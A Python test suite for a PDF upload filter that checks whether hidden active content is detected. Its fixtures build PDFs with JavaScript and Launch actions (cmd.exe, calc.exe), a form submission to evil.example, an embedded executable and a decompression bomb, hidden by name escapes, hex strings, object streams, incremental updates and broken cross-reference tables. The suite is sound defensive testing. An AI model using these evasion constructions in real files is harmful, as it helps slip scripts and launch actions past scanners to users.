"""Active content in PDFs is found by parsing the file (records/pdfactive.py), however it is
written: name escapes (``/J#61vaScript``), hex strings, compressed object streams, earlier
revisions of an incrementally updated file, a broken cross-reference table. Harmless files —
links, jumps, the words "JavaScript" or "/Launch" in text — pass.

Before, the upload filter searched the bytes for ``/JavaScript``, ``/JS `` and ``/Launch``.
"""

from __future__ import annotations

import binascii
import io
import zlib

import pytest
from django.core.exceptions import ValidationError

from gongkai.records.pdfactive import (
    EMBEDDED,
    IMPORT,
    JAVASCRIPT,
    LAUNCH,
    REMOTE,
    RICH_MEDIA,
    SUBMIT,
    XFA,
    PdfUnreadable,
    active_content,
)
from gongkai.records.uploads import inspect_upload

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"
CONTENT = b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (Hello) Tj ET       \nendstream"


def pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    extra: tuple[bytes, ...] = (),
    xref: bool = True,
    tail: bytes = b"",
) -> bytes:
    """A small, well-formed PDF: 1 catalog, 2 pages, 3 page, 4 content, 5.. ``extra``.
    ``catalog`` and ``page`` add entries to those dictionaries."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE[:-2] + page + b" >>",
        CONTENT,
        *extra,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    if xref:
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
        for offset in offsets:
            out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(bodies) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % (start if xref else 999999))
    return out.getvalue() + tail


def object_stream(objects: dict[int, bytes], *, dictionary: bytes = b"") -> bytes:
    """A compressed object stream holding ``objects`` (number → body)."""
    header, body = b"", b""
    for number, text in objects.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    data = zlib.compress(header + body)
    return (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d %s >>\nstream\n"
        % (len(objects), len(header), len(data), dictionary)
        + data
        + b"\nendstream"
    )


def pdf15(
    compressed: dict[int, bytes], *, catalog: bytes = b"", objstm: bytes | None = None
) -> bytes:
    """A PDF 1.5 file as current tools write it: ``compressed`` objects (numbered from 6) in
    object stream 5, indexed by a cross-reference stream (object 5 + len + 1)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE,
        CONTENT,
        objstm if objstm is not None else object_stream(compressed),
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_number = 6 + len(compressed)
    rows = b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    rows += b"".join(b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in offsets)
    rows += b"".join(
        b"\x02" + (5).to_bytes(4, "big") + i.to_bytes(2, "big") for i in range(len(compressed))
    )
    start = out.tell()
    rows += b"\x01" + start.to_bytes(4, "big") + b"\x00\x00"
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def hexed(text: bytes) -> bytes:
    return b"<" + binascii.hexlify(text) + b">"


def action(body: bytes) -> bytes:
    """A catalog whose open action is the dictionary ``body`` (object 5)."""
    return pdf(catalog=b"/OpenAction 5 0 R", extra=(body,))


def incremental(base: bytes, number: int, body: bytes, *, catalog: bytes = b"") -> bytes:
    """``base`` with an incremental update adding object ``number`` and a new catalog."""
    previous = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    out = io.BytesIO(base)
    out.seek(0, 2)
    offset_obj = out.tell()
    out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    offset_catalog = out.tell()
    out.write(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n")
    start = out.tell()
    out.write(
        b"xref\n1 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (offset_catalog, number, offset_obj)
    )
    out.write(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (number + 1, previous))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

#: (name, file, kind that must be found)
CORPUS: list[tuple[str, bytes, str]] = [
    ("plain javascript", action(JS), JAVASCRIPT),
    ("no spaces", action(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), JAVASCRIPT),
    ("escaped action name", action(b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>"), JAVASCRIPT),
    (
        "every letter escaped",
        action(b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >>"),
        JAVASCRIPT,
    ),
    ("lowercase hex digits", action(b"<< /S /#4a#61va#53cript /J#53 (x) >>"), JAVASCRIPT),
    ("escaped key", action(b"<< /S /JavaScript /J#53 (app.alert\\(1\\)) >>"), JAVASCRIPT),
    ("script as a hex string", action(b"<< /S /JavaScript /JS" + hexed(b"app.alert(1)") + b">>"), JAVASCRIPT),
    (
        "script in a compressed stream",
        pdf(
            catalog=b"/OpenAction 5 0 R",
            extra=(
                b"<< /S /JavaScript /JS 6 0 R >>",
                b"<< /Length 20 /Filter /FlateDecode >>\nstream\n"
                + zlib.compress(b"app.alert(1)")
                + b"\nendstream",
            ),
        ),
        JAVASCRIPT,
    ),
    ("action name as a hex string", action(b"<< /S " + hexed(b"JavaScript") + b" /JS 6 0 R >>"), JAVASCRIPT),
    (
        "action name in another object",
        pdf(catalog=b"/OpenAction 5 0 R", extra=(b"<< /S 6 0 R /JS 7 0 R >>", b"/JavaScript", b"(x)")),
        JAVASCRIPT,
    ),
    (
        "page open action",
        pdf(page=b" /AA << /O << /S /JavaScript /JS (x) >> >>"),
        JAVASCRIPT,
    ),
    (
        "document script tree, escaped",
        pdf(catalog=b"/Names << /Java#53cript << /Names [(a) 5 0 R] >> >>", extra=(JS,)),
        JAVASCRIPT,
    ),
    (
        "javascript: link",
        pdf(
            page=b" /Annots [5 0 R]",
            extra=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JavaScript:app.alert\\(1\\)) >> >>",),
        ),
        JAVASCRIPT,
    ),
    ("launch", action(b"<< /S /Launch /F (cmd.exe) >>"), LAUNCH),
    ("escaped launch", action(b"<< /S /L#61unch /Win << /F (calc.exe) >> >>"), LAUNCH),
    ("submit form", action(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"), SUBMIT),
    ("import data", action(b"<< /S /ImportD#61ta /F (data.fdf) >>"), IMPORT),
    ("open another file", action(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"), REMOTE),
    ("open an embedded file", action(b"<< /S /GoT#6FE /T << /R /C /N (a) >> >>"), REMOTE),
    (
        "embedded file",
        pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
            extra=(
                b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
        ),
        EMBEDDED,
    ),
    (
        "file attachment annotation, escaped",
        pdf(page=b" /Annots [<< /Type /Annot /Subtype /File#41ttachment /Rect [0 0 9 9] >>]"),
        EMBEDDED,
    ),
    (
        "rich media",
        pdf(page=b" /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        RICH_MEDIA,
    ),
    ("XFA form", pdf(catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=(b"(<xdp/>)",)), XFA),
    ("in an object stream", pdf15({6: JS}, catalog=b"/OpenAction 6 0 R"), JAVASCRIPT),
    (
        "in an object stream, escaped names and filter",
        pdf15(
            {6: b"<< /S /J#61vaScript /JS (x) >>"},
            catalog=b"/OpenAction 6 0 R",
            objstm=object_stream({6: b"<< /S /J#61vaScript /JS (x) >>"})
            .replace(b"/ObjStm", b"/Obj#53tm")
            .replace(b"/FlateDecode", b"/Fl#61teDecode"),
        ),
        JAVASCRIPT,
    ),
    (
        "in an object stream, hex then flate",
        pdf15(
            {6: JS},
            catalog=b"/OpenAction 6 0 R",
            objstm=b"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n"
            + binascii.hexlify(zlib.compress(b"6 0 " + JS))
            + b">\nendstream",
        ),
        JAVASCRIPT,
    ),
    (
        "in an object stream, not referenced",
        pdf(extra=(object_stream({6: b"<< /S /Launch /F (cmd.exe) >>"}),)),
        LAUNCH,
    ),
    ("added by an incremental update", incremental(pdf(), 5, JS, catalog=b"/OpenAction 5 0 R"), JAVASCRIPT),
    (
        "left in an earlier revision",
        incremental(action(b"<< /S /Launch /F (cmd.exe) >>"), 6, b"(nothing)"),
        LAUNCH,
    ),
    ("broken cross-reference table", pdf(catalog=b"/OpenAction 5 0 R", extra=(JS,), xref=False), JAVASCRIPT),
    ("after the end of file", pdf(tail=b"7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), LAUNCH),
    (
        "behind a comment line",
        action(b"<< /S % a comment (with a parenthesis\n /JavaScript /JS (x) >>"),
        JAVASCRIPT,
    ),
]  # fmt: skip

HARMLESS: list[tuple[str, bytes]] = [
    ("plain", pdf()),
    ("with an object stream", pdf15({6: "<< /Title (通知) /Producer (WPS) >>".encode()})),
    ("opens at the first page", pdf(catalog=b"/OpenAction [3 0 R /Fit]")),
    ("web link", pdf(page=b" /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://jyj.example.gov.cn/JS/app.js) >> >>]")),
    ("jump inside the document", pdf(page=b" /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>]")),
    ("named action", pdf(catalog=b"/OpenAction << /S /Named /N /NextPage >>")),
    ("the words in a title", pdf(catalog=b"/Lang (zh-CN)", extra=(b"<< /Title (About /JavaScript and /Launch \\(JS\\)) >>",))),
    ("the words in a hex title", pdf(extra=(b"<< /Title " + hexed(b"/JavaScript /JS /Launch") + b" >>",))),
    ("the words in page text", pdf(extra=(b"<< /Length 40 >>\nstream\nBT (/JavaScript /Launch /JS) Tj ET\nendstream",))),
]  # fmt: skip


@pytest.mark.parametrize("name,data,kind", CORPUS, ids=[c[0] for c in CORPUS])
def test_active_content_is_found_however_it_is_written(name, data, kind):
    assert kind in active_content(data)


@pytest.mark.parametrize("name,data,kind", CORPUS, ids=[c[0] for c in CORPUS])
def test_the_upload_filter_refuses_it_with_a_chinese_reason(name, data, kind):
    with pytest.raises(ValidationError) as refused:
        inspect_upload(io.BytesIO(data), "通知.pdf")
    message = refused.value.messages[0]
    assert "含有脚本或自动执行的内容" in message and kind in message and "通知.pdf" in message


@pytest.mark.parametrize("name,data", HARMLESS, ids=[h[0] for h in HARMLESS])
def test_harmless_pdfs_pass(name, data):
    assert active_content(data) == []
    assert inspect_upload(io.BytesIO(data), "通知.pdf").content_type == "application/pdf"


def _written_by(tool: str) -> bytes:
    if tool == "reportlab":
        from reportlab.pdfgen import canvas

        buffer = io.BytesIO()
        page = canvas.Canvas(buffer)
        page.drawString(72, 720, "JavaScript /Launch /JS")
        page.linkURL("https://www.gov.cn/", (72, 700, 200, 720))
        page.save()
        return buffer.getvalue()
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Title": "关于 JavaScript 的通知"})
    if tool == "pypdf-compressed":
        writer.compress_identical_objects()
        for page in writer.pages:
            page.compress_content_streams()
    if tool == "pypdf-restricted":
        writer.encrypt(user_password="", owner_password="owner-only", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("tool", ["reportlab", "pypdf", "pypdf-compressed", "pypdf-restricted"])
def test_pdfs_written_by_ordinary_tools_pass(tool):
    assert active_content(_written_by(tool)) == []


def test_a_script_and_an_attachment_added_by_a_pdf_library_are_found():
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_open_action(JavaScript("app.alert('x');"))
    writer.add_attachment("说明.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert active_content(buffer.getvalue()) == [JAVASCRIPT, EMBEDDED]


def test_a_pdf_with_an_opening_password_is_refused_because_it_cannot_be_checked():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="user-secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(PdfUnreadable):
        active_content(buffer.getvalue())
    with pytest.raises(ValidationError, match="设置了打开密码"):
        inspect_upload(io.BytesIO(buffer.getvalue()), "加密.pdf")


def test_a_decompression_bomb_in_an_object_stream_is_read_only_up_to_the_limit(monkeypatch):
    from gongkai.records import pdfactive

    monkeypatch.setattr(pdfactive, "MAX_STREAM_BYTES", 1 << 20)
    bomb = zlib.compress(b"0 0 " + b" " * (50 << 20) + JS)
    data = pdf(
        extra=(
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
            + bomb
            + b"\nendstream",
        )
    )
    assert len(data) < 1 << 20
    assert active_content(data) == []  # the script lies past what is read; pypdf gives up too


def test_a_pdf_made_of_too_many_objects_is_refused_rather_than_checked_for_minutes(monkeypatch):
    from gongkai.records import pdfactive

    monkeypatch.setattr(pdfactive, "MAX_OBJECTS", 50)
    data = pdf(extra=tuple(b"<< /N %d >>" % n for n in range(60)))
    with pytest.raises(ValidationError, match="超过 50 个对象"):
        inspect_upload(io.BytesIO(data), "对象.pdf")
